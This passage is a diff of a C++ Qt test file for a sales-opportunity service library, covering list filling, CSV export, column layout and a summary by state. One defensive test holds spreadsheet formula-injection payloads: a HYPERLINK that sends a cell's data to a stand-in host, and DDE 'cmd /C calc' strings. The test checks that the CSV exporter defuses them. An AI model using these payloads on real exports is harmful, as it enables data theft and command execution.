@@ -1,52 +1,72 @@
-// The services on the session's database: the environment (variables, restricted options, the
-// message box), the functions (look-ups, filling a list, the audit log, keys sent) and the
-// processes (notes and closings), signed in as ANA.
+// The service library on the session's database, signed in as ANA: the environment (variables,
+// restricted options, the message box), the functions (look-ups, filling a list, the audit log,
+// keys sent) and the processes (notes and closings); the list's actions (the CSV and the copy,
+// fitting the columns, each view's layout, the summary by state with its dialog); passwords
+// (the rules of a new one, salespeople's checked where their hashes are, and those kept
+// enciphered before carried over to hashes under the key of the desk).
 #include "basedeprueba.h"
 #include "errores.h"
 #include "respuestas.h"
 
+#include "datos/version.h"
+#include "servicios/accioneslista.h"
+#include "servicios/ajustelista.h"
+#include "servicios/cifrado.h"
+#include "servicios/contrasenaoperador.h"
+#include "servicios/contrasenavendedor.h"
 #include "servicios/entornosql.h"
 #include "servicios/funcionessql.h"
+#include "servicios/menulista.h"
 #include "servicios/procesossql.h"
+#include "servicios/resumenestados.h"
 
 #include "controles/listview.h"
+#include "runtime/colors.h"
 #include "runtime/conversions.h"
+#include "runtime/settings.h"
 
 #include <QAbstractButton>
 #include <QApplication>
+#include <QClipboard>
+#include <QDialog>
+#include <QDir>
+#include <QElapsedTimer>
+#include <QFile>
+#include <QFileDialog>
+#include <QFileInfo>
+#include <QHeaderView>
 #include <QLabel>
 #include <QLineEdit>
+#include <QMenu>
 #include <QMessageBox>
 #include <QPlainTextEdit>
 #include <QPushButton>
-#include <QRegularExpression>
 #include <QSignalSpy>
+#include <QTableWidget>
+#include <QTemporaryDir>
 #include <QTest>
 
 #include <gtest/gtest.h>
+#include <sodium.h>
 
 #include <chrono>
 #include <future>
+#include <map>
 #include <thread>
+
+#include <unistd.h>
 
 namespace {
 
 namespace Estilo = Servicios::Estilo;
 namespace Respuesta = Servicios::Respuesta;
+using Pruebas::errorDe;
+using Runtime::ErrorNumber::InvalidCall;
+using Servicios::ResumenEstados;
+using Servicios::RevisionDeContrasena;
 using Servicios::TipoDeNota;
-
-// The rows of a list as text: the cells of a row joined by "|", and its key after a "/".
-QStringList filas(const Kit::ListView &lista)
-{
-    QStringList todas;
-    for (int item = 1; item <= lista.itemCount(); ++item) {
-        QString fila = lista.itemText(item);
-        for (int sub = 1; sub < lista.columnCount(); ++sub)
-            fila += '|' + lista.subItemText(item, sub);
-        todas << (lista.itemKey(item).isEmpty() ? fila : fila + '/' + lista.itemKey(item));
-    }
-    return todas;
-}
+using Servicios::AccionesLista::textoCsv;
+using Servicios::AccionesLista::textoTabulado;
 
 class ServiciosSql : public ::testing::Test
 {
@@ -59,7 +79,9 @@ protected:
     Servicios::ProcesosSql procesos{entorno, funciones};
 };
 
-TEST_F(ServiciosSql, aVariableIsReadAsItsTypeOrTheDefaultWhenItHasNoValue)
+// A variable is read as its type, or as the default when it has no value; an option is
+// restricted only for the operator, module and option recorded.
+TEST_F(ServiciosSql, readsVariablesAsTheirTypeAndOptionsRestrictedOnlyAsRecorded)
 {
     base.ejecuta("INSERT INTO Variable (Va_Nombre, Va_Valor) VALUES ('ENTERO', '15'), ('DECIMAL', '2.5'),"
                  " ('HEX', '&HFF'), ('VACIA', ''), ('NULA', NULL), ('TEXTO', 'abc'), ('CEROS', '007')");
@@ -74,10 +96,7 @@ TEST_F(ServiciosSql, aVariableIsReadAsItsTypeOrTheDefaultWhenItHasNoValue)
         EXPECT_EQ(valor.typeName() + (' ' + valor.toString()), caso.section(' ', 2));
     }
     EXPECT_EQ(Runtime::toInteger32(entorno.LeeVariable("HEX", 0, "N", 0)), 255);
-}
 
-TEST_F(ServiciosSql, anOptionIsRestrictedOnlyForTheOperatorModuleAndOptionRecorded)
-{
     base.ejecuta("INSERT INTO Opcion_Restringida (Or_Cve_Operador, Or_Modulo, Or_Opcion)"
                  " VALUES ('ANA', 'KLD251', 'TOOLB2'), ('O''Neil', 'KLD251', 'KLD251')");
     // Operator, module, option, and 1 when it is restricted.
@@ -163,8 +182,7 @@ TEST_F(ServiciosSql, aLookUpGivesTheValueOfTheKeyAsItIsAndRefusesNamesThatAreNoI
         for (qsizetype lugar = 0; lugar < nombre.size(); ++lugar) {
             QStringList nombres = nombre;
             nombres[lugar] = malo;
-            EXPECT_EQ(Pruebas::errorDe([&] { busca(nombres, "x"); }), Runtime::ErrorNumber::InvalidCall)
-                << malo.toStdString() << " " << lugar;
+            EXPECT_EQ(errorDe([&] { busca(nombres, "x"); }), InvalidCall) << malo.toStdString() << " " << lugar;
         }
     }
     EXPECT_EQ(base.cuenta("Vendedor"), 0); // the table is still there to count
@@ -172,9 +190,8 @@ TEST_F(ServiciosSql, aLookUpGivesTheValueOfTheKeyAsItIsAndRefusesNamesThatAreNoI
 
 // Each column named as the query names it; figures and dates as a Mexican user reads them,
 // whatever type each engine gives them (PostgreSQL: NUMERIC, DATE, TIMESTAMP; SQLite: INTEGER
-// and REAL side by side in one column, dates as text); the folio as it is. The list still
-// sorts them by value.
-TEST_F(ServiciosSql, aFilledListShowsFiguresAndDatesAsReadInMexicoAndSortsByValue)
+// and REAL side by side in one column, dates as text); the folio as it is.
+TEST_F(ServiciosSql, aFilledListShowsFiguresAndDatesAsReadInMexico)
 {
     base.ejecuta(
         "INSERT INTO Oportunidad (Op_Folio, Op_Descripcion, Op_Cve_Vendedor, Op_Contacto, Op_Monto, Op_Fecha_Alta,"
@@ -200,24 +217,13 @@ TEST_F(ServiciosSql, aFilledListShowsFiguresAndDatesAsReadInMexicoAndSortsByValu
             .arg(alta, cierre),
         lista, -1));
 
-    EXPECT_EQ(lista.listModel().headers(), (QStringList{"Folio", "Descripción", "Contacto", "Monto", "Probabilidad",
-                                                        "Cantidad", "Año", "Alta", "Cierre"}));
-    EXPECT_EQ(
-        filas(lista),
-        (QStringList{"F-1|Primera|C1|$45,000.00|3.000|1,234,567|2026|02/01/2026 13:05|05/01/2027",
-                     "F-2|Segunda; con \"comillas\"||$33,890.44|2.500|9,007,199,254,740,993|2026|04/03/2026|31/12/2026",
-                     "F-3|Tercera||-$1,234.50|-0.125|0|2026||01/02/2026",
-                     "F-4|Cuarta||$999,999,999,999.99||-5|2026|06/05/2026 07:08:09|", "F-5|Quinta|||||2026||"}));
-
-    lista.setSorted(true);
-    QStringList ordenes; // the folios as each column sorts them; a negative column, descending
-    for (const int columna : {3, 4, -5, -7, 8}) {
-        lista.setSortKey(std::abs(columna));
-        lista.setSortOrder(columna < 0 ? Qt::DescendingOrder : Qt::AscendingOrder);
-        ordenes << filas(lista).replaceInStrings(QRegularExpression("\\|.*"), "").join(' ');
-    }
-    EXPECT_EQ(ordenes, (QStringList{"F-5 F-3 F-2 F-1 F-4", "F-4 F-5 F-3 F-2 F-1", "F-2 F-1 F-3 F-4 F-5",
-                                    "F-4 F-2 F-1 F-3 F-5", "F-4 F-5 F-3 F-2 F-1"}));
+    EXPECT_EQ(textoTabulado(lista).replace('\t', '|'),
+              "Folio|Descripción|Contacto|Monto|Probabilidad|Cantidad|Año|Alta|Cierre\n"
+              "F-1|Primera|C1|$45,000.00|3.000|1,234,567|2026|02/01/2026 13:05|05/01/2027\n"
+              "F-2|Segunda; con \"comillas\"||$33,890.44|2.500|9,007,199,254,740,993|2026|04/03/2026|31/12/2026\n"
+              "F-3|Tercera||-$1,234.50|-0.125|0|2026||01/02/2026\n"
+              "F-4|Cuarta||$999,999,999,999.99||-5|2026|06/05/2026 07:08:09|\n"
+              "F-5|Quinta|||||2026||\n");
 }
 
 // Whatever changed, a refill shows what a fresh fill shows: a few rows changed in place (also
@@ -257,7 +263,7 @@ TEST_F(ServiciosSql, aRefillLeavesTheListAsAFreshFillWould)
         nueva.setSortOrder(lista.sortOrder());
         nueva.setSorted(lista.sorted());
         ASSERT_TRUE(funciones.LlenaLista(consulta, nueva, -1));
-        EXPECT_EQ(filas(lista), filas(nueva));
+        EXPECT_EQ(textoTabulado(lista), textoTabulado(nueva));
         lista.setSortKey(1); // by description, descending, for the next refill
         lista.setSortOrder(Qt::DescendingOrder);
         lista.setSorted(true);
@@ -272,7 +278,8 @@ TEST_F(ServiciosSql, aRefillLeavesTheListAsAFreshFillWould)
 TEST_F(ServiciosSql, aFailedFillSaysSoAndLeavesNoRowsOfAnotherStatement)
 {
     QStringList avisos;
-    const auto falla = [&](const QString &consulta, Kit::ListView &lista) {
+    Kit::ListView lista;
+    const auto falla = [&](const QString &consulta) {
         Pruebas::alAparecer("Mensaje", [&](QWidget &ventana) {
             auto &caja = static_cast<QMessageBox &>(ventana);
             avisos << (caja.icon() == QMessageBox::Critical ? caja.text() : "sin icono crítico");
@@ -281,16 +288,15 @@ TEST_F(ServiciosSql, aFailedFillSaysSoAndLeavesNoRowsOfAnotherStatement)
         EXPECT_FALSE(funciones.LlenaLista(consulta, lista, -1));
     };
     const QString buena = "SELECT COUNT(*) FROM Oportunidad";
-    Kit::ListView lista;
     ASSERT_TRUE(funciones.LlenaLista(buena, lista, -1));
 
-    falla("SELECT Op_Folio FROM NoHayTabla", lista);
+    falla("SELECT Op_Folio FROM NoHayTabla");
     EXPECT_EQ(lista.columnCount(), 0);
     EXPECT_TRUE(funciones.UltimaFalla().contains("nohaytabla", Qt::CaseInsensitive));
     ASSERT_TRUE(funciones.LlenaLista(buena, lista, -1));
     base.ejecuta("ALTER TABLE Oportunidad RENAME TO Otra");
-    falla(buena, lista);
-    EXPECT_EQ(filas(lista), QStringList{"0"});
+    falla(buena);
+    EXPECT_EQ(lista.itemCount(), 1);
 
     ASSERT_EQ(avisos.size(), 2);
     EXPECT_TRUE(avisos[0].startsWith("No se pudo leer la lista.\n")
@@ -333,9 +339,7 @@ TEST_F(ServiciosSql, sentKeysTypeIntoTheFocusedControlAndTabMovesToTheNext)
             caja->clear();
         cajas.first()->setFocus();
         QSignalSpy enter(cajas.first(), &QLineEdit::returnPressed);
-
         funciones.EnviaTeclas(teclas, 0);
-
         QStringList textos;
         for (const QLineEdit *caja : cajas)
             textos << caja->text();
@@ -476,8 +480,7 @@ TEST_F(CierreOportunidad, aClosingStoresItsAuditEntryTooOrLeavesNothingAndSaysWh
 // Another desktop is closing F-1 and holds its row (row locks between desktops need the
 // shared server); this one waits for it and then finds the opportunity closed, instead of
 // closing it a second time.
-class CierreOportunidadPostgreSQL : public CierreOportunidad
-{ };
+using CierreOportunidadPostgreSQL = CierreOportunidad;
 
 TEST_F(CierreOportunidadPostgreSQL, twoUsersCloseTheSameOpportunityAndOnlyTheFirstWins)
 {
@@ -506,6 +509,548 @@ TEST_F(CierreOportunidadPostgreSQL, twoUsersCloseTheSameOpportunityAndOnlyTheFir
     EXPECT_EQ(motivo, "F-1: La oportunidad F-1 ya fue cerrada");
     EXPECT_EQ(huellas({"F-1"}), QStringList{"1  LUIS  LUIS"});
     EXPECT_EQ(base.cuenta("Bitacora"), 0);
+}
+
+// Cells a spreadsheet would run as formulas go out as text; numbers stay numbers. A cell
+// longer than the list shows goes out whole, and is copied whole.
+TEST(AccionesLista, theCsvCarriesNoFormulas)
+{
+    const QString larga = QString(Kit::ListModel::shownLength, u'x') + "fin";
+    const std::vector<std::pair<QString, QString>> casos = {
+        {"=HYPERLINK(\"http://x.example/?d=\"&B3;\"Ver\")",
+         "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&B3;\"\"Ver\"\")\""},
+        {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+        {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+        {"\t=1+1", "'\t=1+1"},
+        {"\r=1+1", "\"'\r=1+1\""},
+        {"-1234.50", "-1234.50"},
+        {"-$1,234.50", "-$1,234.50"},
+        {"-$1,2+cmd|' /C calc'!A0", "'-$1,2+cmd|' /C calc'!A0"},
+        {"+7", "+7"},
+        {"-", "'-"},
+        {"a=b", "a=b"},
+        {larga, larga}};
+    Kit::ListView lista;
+    for (const auto &[valor, esperado] : casos) {
+        SCOPED_TRACE(valor.left(40).toStdString());
+        lista.replaceContents({"=Folio"}, {{QString(), {valor}}});
+        EXPECT_EQ(textoCsv(lista), QStringLiteral("'=Folio\r\n") + esperado + QStringLiteral("\r\n"));
+    }
+    EXPECT_EQ(textoTabulado(lista), "=Folio\n" + larga + "\n"); // the copy takes the long cell whole too
+}
+
+const QColor Rojo(200, 0, 0);
+const QColor Azul(0, 0, 200);
+const QColor Negro(0, 0, 0);
+
+// The summary of rows "state|amount", with "|R" or "|A" after them for a red or blue look:
+// "State: count, amount" a state in the summary's order (the amount only when there are
+// amounts; " rojo" or " azul" after the state for its colour), then the totals.
+QString resume(const QStringList &filas, const std::optional<QStringList> &orden, const QStringList &encabezados)
+{
+    std::vector<Servicios::FilaParaResumen> leidas;
+    for (const QString &fila : filas) {
+        const QStringList celdas = fila.split(QLatin1Char('|'));
+        std::optional<QColor> color;
+        if (celdas.size() > 2)
+            color = celdas[2] == QLatin1String("R") ? Rojo : Azul;
+        leidas.push_back({{"OP", celdas[0], celdas.value(1)}, color});
+    }
+    const ResumenEstados resumen = Servicios::resumePorEstado(encabezados, leidas, Negro, orden);
+    QStringList estados;
+    for (const Servicios::EstadoResumido &estado : resumen.estados) {
+        const QString color = estado.color == Negro  ? ""
+                              : estado.color == Rojo ? " rojo"
+                              : estado.color == Azul ? " azul"
+                                                     : " ?";
+        estados << QStringLiteral("%1%2: %3").arg(estado.estado, color).arg(estado.cantidad)
+                       + (resumen.conMontos ? QStringLiteral(", %1").arg(estado.monto, 0, 'f', 2) : QString());
+    }
+    QString total = QStringLiteral("; total %1").arg(resumen.cantidadTotal());
+    total += resumen.conMontos ? QStringLiteral(", %1").arg(resumen.montoTotal(), 0, 'f', 2) : ", sin montos";
+    if (resumen.montosSinSumar > 0)
+        total += QStringLiteral(", %1 sin sumar").arg(resumen.montosSinSumar);
+    return estados.join(" | ") + total;
+}
+
+TEST(ResumenEstados, readsAmountsAsAListWritesThem)
+{
+    // "text=amount"
+    const QStringList montos = {
+        "1234.5=1234.5",  "250000.00=250000",        "1,234.50=1234.5",   "$1,234,567.89=1234567.89", " $ 980 =980",
+        "MXN 2,000=2000", "1.234.567,89=1234567.89", "1 234,50 €=1234.5", "1\u00A0234,50=1234.5",     "12,5=12.5",
+        "1,250=1250",     "-$1,200.00=-1200",        "$-1,200.00=-1200",  "(1,200.00)=-1200"};
+    for (const QString &monto : montos) {
+        const std::optional<double> leido = Servicios::leeMonto(monto.section(QLatin1Char('='), 0, 0));
+        ASSERT_TRUE(leido.has_value()) << monto.toStdString();
+        EXPECT_DOUBLE_EQ(*leido, monto.section(QLatin1Char('='), 1).toDouble()) << monto.toStdString();
+    }
+    for (const QString texto : {"", "N/D", "$", "12,34,567", "1,234.567,89", "1.2.3", "--5", "5 pesos", "(-5)"})
+        EXPECT_FALSE(Servicios::leeMonto(texto).has_value()) << texto.toStdString();
+}
+
+// The states an opportunity goes through come in that order; the ones the state table does
+// not know, alphabetically (in Spanish: lower case beside upper case, É beside E, ñ after n);
+// "(Sin estado)" last. Without the order (it could not be read), most opportunities first.
+TEST(ResumenEstados, groupsByStateInTheOrderOfTheStagesAddingTheAmountsThatAreNumbers)
+{
+    const QStringList variados = {"Ganada", "Éxito", "Cierre", "calificada", "Ñandú",
+                                  "Oferta", "Nube",  "Zeta",   "Zeta",       ""};
+    const QStringList encabezados = {"Folio", "Estado", "Monto"};
+    const struct
+    {
+        QStringList filas;
+        QString resumen;
+        QStringList encabezados = {"Folio", "Estado", "Monto"};
+        std::optional<QStringList> orden = std::nullopt;
+    } casos[] = {
+        // Separators, signs and blanks around the state do not split a state.
+        {{"Negociación|250000.00", "Propuesta enviada|$1,200.50", "Negociación|$ 49,999.50", " Negociación |10,000.50",
+          "Propuesta enviada|800"},
+         "Negociación: 3, 310000.00 | Propuesta enviada: 2, 2000.50; total 5, 312000.50"},
+        // An amount that is no number is counted, not added.
+        {{"Calificada|1,000.00", "Calificada|por definir", "Calificada|", "En espera|500"},
+         "Calificada: 3, 1000.00 | En espera: 1, 500.00; total 4, 1500.00, 2 sin sumar"},
+        // A column of words, or none headed as amounts: only counts.
+        {{"Calificada|alto", "Calificada|bajo", "En espera|10"}, "Calificada: 2 | En espera: 1; total 3, sin montos"},
+        {{"Calificada|1", "Calificada|2", "En espera|10"},
+         "Calificada: 2 | En espera: 1; total 3, sin montos",
+         {"Folio", "Estado", "Prioridad"}},
+        // Headers are recognised whatever their letter case, accents and blanks.
+        {{"Calificada|7.50"}, "Calificada: 1, 7.50; total 1, 7.50", {"Folio", "ESTÁDO ", "monto"}},
+        // Each state takes the colour of most of its rows; on a tie, the first colour met.
+        {{"Mayoría roja||A", "Mayoría roja||R", "Mayoría roja||R", "Empate||A", "Empate||R", "Sin aspecto",
+          "Mayoría sin aspecto", "Mayoría sin aspecto||R", "Mayoría sin aspecto"},
+         "Mayoría roja rojo: 3 | Mayoría sin aspecto: 3 | Empate azul: 2 | Sin aspecto: 1; total 9, sin montos"},
+        {variados,
+         "Zeta: 2 | Oferta: 1 | calificada: 1 | Cierre: 1 | Éxito: 1 | Ganada: 1 | Nube: 1 | Ñandú: 1"
+         " | (Sin estado): 1; total 10, sin montos",
+         encabezados, QStringList{"Zeta", "Oferta", "Calificada", "Perdida"}},
+        {variados,
+         "calificada: 1 | Cierre: 1 | Éxito: 1 | Ganada: 1 | Nube: 1 | Ñandú: 1 | Oferta: 1 | Zeta: 2"
+         " | (Sin estado): 1; total 10, sin montos",
+         encabezados, QStringList{}},
+        {variados, // without the order
+         "Zeta: 2 | (Sin estado): 1 | calificada: 1 | Cierre: 1 | Éxito: 1 | Ganada: 1 | Nube: 1 | Ñandú: 1"
+         " | Oferta: 1; total 10, sin montos"},
+        {{"Calificada|1"}, "; total 0, sin montos", {"Folio", "Estatus", "Monto"}}, // no state column
+    };
+    for (const auto &caso : casos) {
+        SCOPED_TRACE(caso.resumen.toStdString());
+        EXPECT_EQ(resume(caso.filas, caso.orden, caso.encabezados), caso.resumen);
+    }
+    EXPECT_FALSE(Servicios::tieneColumnaEstado({"Folio", "Estatus", "Monto"}));
+}
+
+// Each column takes the width of its header and of the texts of the first rows, those beyond
+// unmeasured; in a window too narrow for them all, the text columns give up width, never below
+// a few characters, while the folio, the figures and the dates keep theirs.
+TEST(AjusteLista, fitsEachColumnToItsHeaderAndFirstRowsShrinkingTextOnesToTheListsWidth)
+{
+    Kit::ListView lista;
+    lista.resize(560, 200);
+    lista.show();
+    const QString largo = "Migración a la nube — Distribuidora La Paz, segunda etapa";
+    const QString lejano(30, 'n'); // in the first row not measured
+    std::vector<Kit::ListRow> filas(Servicios::AjusteLista::FilasMedidas + 1,
+                                    {QString(), {"OP-2026-000001", largo, largo, "04/03/2026", "$999,477,930.17"}});
+    filas.front().texts[0] = "OP-1";
+    filas.back().texts[0] = lejano;
+    lista.replaceContents({"Folio", "Descripción", "Organización", "Cierre estimado", "Monto"}, std::move(filas));
+
+    Servicios::AjusteLista().AjustaAlAncho(lista);
+
+    const QHeaderView &encabezado = *lista.header();
+    const QFontMetrics medida(lista.font());
+    EXPECT_LE(encabezado.length(), lista.viewport()->width());
+    EXPECT_GE(encabezado.sectionSize(0), medida.horizontalAdvance("OP-2026-000001"));
+    EXPECT_LT(encabezado.sectionSize(0), medida.horizontalAdvance(lejano));
+    EXPECT_GE(encabezado.sectionSize(3), QFontMetrics(encabezado.font()).horizontalAdvance("Cierre estimado"));
+    for (const int columna : {1, 2}) {
+        EXPECT_LT(encabezado.sectionSize(columna), medida.horizontalAdvance(largo)) << columna;
+        EXPECT_GE(encabezado.sectionSize(columna), medida.averageCharWidth() * 10) << columna;
+    }
+}
+
+// The board's view of the opportunities, coloured by state as the board colours it; every
+// amount `montoUnico` when one is given.
+constexpr qint32 ColorNegociacion = 0x0060D0;
+constexpr qint32 ColorProspeccion = 0x808080;
+
+void llenaComoElTablero(Kit::ListView &lista, const QString &montoUnico = QString())
+{
+    const std::map<QString, Kit::ListView::RowLook> aspectos = {{"Negociación", {ColorNegociacion, true}},
+                                                                {"Propuesta enviada", {0xC06000, false}},
+                                                                {"Prospección", {ColorProspeccion, false}}};
+    std::vector<Kit::ListRow> filas;
+    std::vector<std::optional<Kit::ListView::RowLook>> looks;
+    for (const QString fila :
+         {"Negociación|250000.00", "Propuesta enviada|1200.50", "Negociación|49999.50", "Prospección|N/D",
+          "Propuesta enviada|800.00", "Negociación|10000.50", "Prospección|5000.00"}) {
+        const QStringList celdas = fila.split('|');
+        filas.push_back({QString(),
+                         {QStringLiteral("OP-%1").arg(filas.size() + 1), "Licencias ERP", celdas[0],
+                          montoUnico.isEmpty() ? celdas[1] : montoUnico}});
+        looks.push_back(aspectos.at(celdas[0]));
+    }
+    lista.replaceContents({"Folio", "Descripción", "Estado", "Monto"}, std::move(filas));
+    lista.setRowLooks(looks);
+}
+
+// A list in a window with its menu of actions, on the session's database, whose state table
+// keeps the board's states in the order of the pipeline.
+class MenuDeLista : public ServiciosSql
+{
+protected:
+    MenuDeLista()
+    {
+        base.ejecuta("INSERT INTO Estado_Oportunidad (Eo_Cve_Estado_Oportunidad, Eo_Descripcion) VALUES "
+                     "('PRO', 'Prospección'), ('PRE', 'Propuesta enviada'), ('NEG', 'Negociación')");
+        lista.setObjectName("lvOrdenes");
+        lista.show();
+    }
+
+    QAction *accionResumen()
+    {
+        entradas.habilitaPara(&lista);
+        return menu.findChild<QAction *>("accResumenEstados");
+    }
+
+    // Runs `revision` on the dialog the action opens, then closes it with Esc, as a user would.
+    void revisaElDialogo(std::function<void(QDialog &)> revision)
+    {
+        bool cerradoConEsc = false;
+        Pruebas::alAparecer("dlgResumenEstados", [&](QWidget &ventana) {
+            auto &dialogo = static_cast<QDialog &>(ventana);
+            revision(dialogo);
+            QTest::keyClick(&dialogo, Qt::Key_Escape);
+            cerradoConEsc = !dialogo.isVisible();
+            if (!cerradoConEsc)
+                dialogo.reject(); // so a failure does not leave the test waiting
+        });
+        EXPECT_TRUE(entradas.ejecuta(accionResumen(), lista));
+        EXPECT_TRUE(cerradoConEsc);
+    }
+
+    Kit::ListView lista;
+    QMenu menu;
+    Servicios::EntradasDeLista entradas{menu};
+};
+
+// The file chosen holds the CSV in UTF-8 with a BOM. The CSV and the copy take the rows in the
+// order shown, the columns as shown (moved, without hidden ones), texts quoted where the format
+// needs it.
+TEST_F(MenuDeLista, exportingToCsvSavesTheChosenFileInUtf8WithBom)
+{
+    lista.replaceContents({"Folio", "Descripción", "Monto"}, {{QString(), {"F-1", "Uno; dos", "10.00"}},
+                                                              {QString(), {"F-2", "Dice \"sí\"", "30.00"}},
+                                                              {QString(), {"F-3", "Línea\nnueva\tcon tab", "20.00"}}});
+    lista.setSortKey(2); // by amount text, descending
+    lista.setSortOrder(Qt::DescendingOrder);
+    lista.setSorted(true);
+    QTemporaryDir carpeta;
+    const QString ruta = carpeta.filePath("oportunidades.csv");
+    Pruebas::alAparecer("mnuAccionLista", [](QWidget &ventana) {
+        auto &menu = static_cast<QMenu &>(ventana);
+        menu.setActiveAction(menu.findChild<QAction *>("accExportarCsv"));
+        QTest::keyClick(&menu, Qt::Key_Return);
+    });
+    Pruebas::alAparecer("dlgExportarCsv", [ruta](QWidget &ventana) {
+        auto &dialogo = static_cast<QFileDialog &>(ventana);
+        EXPECT_TRUE(dialogo.testOption(QFileDialog::DontUseNativeDialog));
+        dialogo.selectFile(ruta);
+        QMetaObject::invokeMethod(&dialogo, "accept");
+    });
+
+    funciones.AccionLista(lista);
+
+    QFile archivo(ruta);
+    ASSERT_TRUE(archivo.open(QIODevice::ReadOnly));
+    EXPECT_EQ(archivo.readAll(), QByteArray("\xEF\xBB\xBF") + textoCsv(lista).toUtf8());
+    EXPECT_EQ(textoCsv(lista), "Folio;Descripción;Monto\r\n"
+                               "F-2;\"Dice \"\"sí\"\"\";30.00\r\n"
+                               "F-3;\"Línea\nnueva\tcon tab\";20.00\r\n"
+                               "F-1;\"Uno; dos\";10.00\r\n");
+    EXPECT_EQ(textoTabulado(lista), "Folio\tDescripción\tMonto\n"
+                                    "F-2\tDice \"sí\"\t30.00\n"
+                                    "F-3\tLínea nueva con tab\t20.00\n"
+                                    "F-1\tUno; dos\t10.00\n");
+    lista.header()->moveSection(2, 0); // Monto first
+    lista.header()->hideSection(1);    // no Descripción
+    EXPECT_EQ(textoCsv(lista), "Monto;Folio\r\n30.00;F-2\r\n20.00;F-3\r\n10.00;F-1\r\n");
+}
+
+// A reload keeps the columns as the user left them; another view brings its own layout, or
+// fits the columns when it has none; coming back brings the first one's again.
+TEST_F(MenuDeLista, eachViewKeepsTheUsersLayoutOnReload)
+{
+    const QString consulta = QStringLiteral("SELECT Op_Folio AS \"Folio\", Op_Descripcion AS \"Descripción\","
+                                            " Op_Monto AS \"Monto\" FROM Oportunidad");
+    base.ejecuta("INSERT INTO Oportunidad (Op_Folio, Op_Descripcion, Op_Cve_Vendedor, Op_Monto)"
+                 " VALUES ('F-1', 'Licencias', 'V1', 10), ('F-2', 'Servidores', 'V1', 20)");
+    const auto muestra = [&](const QString &vista) {
+        lista.setLayoutKey(QStringLiteral("Pruebas/lvOrdenes/") + vista);
+        EXPECT_TRUE(funciones.LlenaLista(consulta, lista, -1));
+        return lista.header()->sectionSize(1);
+    };
+    const int ajustada = muestra("TODOS");
+    lista.header()->resizeSection(1, ajustada + 77);
+    EXPECT_EQ(muestra("TODOS"), ajustada + 77); // a reload keeps what the user did
+    lista.saveLayout();
+    EXPECT_EQ(muestra("GANADAS"), ajustada);
+    EXPECT_EQ(muestra("TODOS"), ajustada + 77);
+    Runtime::removeSettings("Pruebas", "lvOrdenes");
+}
+
+// The table by state with its total, which the dialog copies; the chart, which tells its
+// figures by count or by amount to a screen reader, as every control says what it is.
+TEST_F(MenuDeLista, showsTheTableByStateWithItsTotalCopiesItAndChartsIt)
+{
+    llenaComoElTablero(lista);
+    const QStringList esperadas = {"Estado | Oportunidades | Monto | % del monto",
+                                   "Prospección | 2 | $5,000.00 | 1.6 %", "Propuesta enviada | 2 | $2,000.50 | 0.6 %",
+                                   "Negociación | 3 | $310,000.00 | 97.8 %", "Total | 7 | $317,000.50 | 100.0 %"};
+    QGuiApplication::clipboard()->clear();
+    revisaElDialogo([&esperadas](QDialog &dialogo) {
+        EXPECT_TRUE(dialogo.isModal());
+        const auto *tabla = dialogo.findChild<QTableWidget *>("grdResumen");
+        EXPECT_TRUE(tabla->item(3, 0)->font().bold());
+        EXPECT_EQ(tabla->item(1, 2)->textAlignment(), int(Qt::AlignRight | Qt::AlignVCenter));
+        EXPECT_EQ(tabla->item(2, 0)->data(Qt::DecorationRole).value<QColor>(), Runtime::toQColor(ColorNegociacion));
+        EXPECT_EQ(tabla->item(0, 0)->data(Qt::DecorationRole).value<QColor>(), Runtime::toQColor(ColorProspeccion));
+        EXPECT_TRUE(dialogo.findChild<QLabel *>("lbAviso")->text().startsWith("Una oportunidad no tiene su monto"));
+        Pruebas::pulsa(dialogo, "cmdCopiar");
+        EXPECT_TRUE(dialogo.isVisible());
+
+        auto *grafica = dialogo.findChild<QWidget *>("picGrafica");
+        EXPECT_TRUE(dialogo.findChild<QAbstractButton *>("optCantidad")->isChecked());
+        EXPECT_EQ(grafica->accessibleDescription(), "Prospección: 2; Propuesta enviada: 2; Negociación: 3");
+        dialogo.findChild<QAbstractButton *>("optMonto")->click();
+        EXPECT_EQ(grafica->accessibleDescription(),
+                  "Prospección: $5,000.00; Propuesta enviada: $2,000.50; Negociación: $310,000.00");
+        EXPECT_TRUE(grafica->accessibleName().contains("monto"));
+        for (const QWidget *control : dialogo.findChildren<QWidget *>()) {
+            if (control->isVisible() && (control->focusPolicy() != Qt::NoFocus || control == grafica)) {
+                EXPECT_FALSE(control->accessibleName().isEmpty()) << control->objectName().toStdString();
+            }
+        }
+    });
+
+    EXPECT_EQ(QGuiApplication::clipboard()->text(), esperadas.join('\n').replace(" | ", "\t") + "\n");
+}
+
+// The state table keeps its states in the order of the pipeline (the fixture's, which the
+// dialog shows); keys that are all numbers say it.
+TEST_F(MenuDeLista, numericStateKeysGiveTheOrderOfTheStages)
+{
+    base.ejecuta("DELETE FROM Estado_Oportunidad");
+    base.ejecuta("INSERT INTO Estado_Oportunidad (Eo_Cve_Estado_Oportunidad, Eo_Descripcion) VALUES "
+                 "('10', 'Calificada'), ('2', 'Prospección'), ('30', 'Negociación')");
+    EXPECT_EQ(Servicios::ordenDeEstados(*base.conexion()), (QStringList{"Prospección", "Calificada", "Negociación"}));
+}
+
+// Amounts that are all words leave the amount chart disabled, saying why; a list without a
+// state column offers the summary disabled, saying why.
+TEST_F(MenuDeLista, withoutAmountsOrStatesTheChoiceIsDisabledAndSaysWhy)
+{
+    llenaComoElTablero(lista, "pendiente");
+    revisaElDialogo([](QDialog &dialogo) {
+        auto *porMonto = dialogo.findChild<QAbstractButton *>("optMonto");
+        EXPECT_TRUE(!porMonto->isEnabled() && !porMonto->toolTip().isEmpty());
+        Pruebas::pulsa(dialogo, "cmdCopiar");
+        EXPECT_TRUE(QGuiApplication::clipboard()->text().endsWith("\nTotal\t7\t\t\n"));
+        Pruebas::pulsa(dialogo, "cmdCerrar");
+        EXPECT_FALSE(dialogo.isVisible());
+    });
+
+    lista.replaceContents({"Folio", "Monto"}, {{QString(), {"OP-1", "10.00"}}});
+    const QAction *resumen = accionResumen();
+    EXPECT_TRUE(!resumen->isEnabled() && resumen->toolTip().contains("«Estado»") && menu.toolTipsVisible());
+}
+
+constexpr int ErrorDeArchivo = 75;
+constexpr auto soloDueno = QFile::ReadOwner | QFile::WriteOwner;
+
+// Each test gets a key file of its own, in a folder that starts without one.
+class Contrasenas : public ::testing::Test
+{
+protected:
